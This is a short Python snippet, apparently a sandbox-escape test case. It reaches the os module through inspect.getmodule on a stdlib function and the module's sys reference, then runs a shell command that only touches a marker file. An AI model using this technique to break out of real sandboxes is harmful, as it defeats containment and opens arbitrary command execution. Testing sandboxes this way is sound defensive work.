# escape: inspect.getmodule of a stdlib function returns the real module, whose globals lead to sys
# effect: marker
import inspect
import statistics
real = inspect.getmodule(statistics.mean)
real.sys.modules["os"].system("touch {marker}")
return "done"
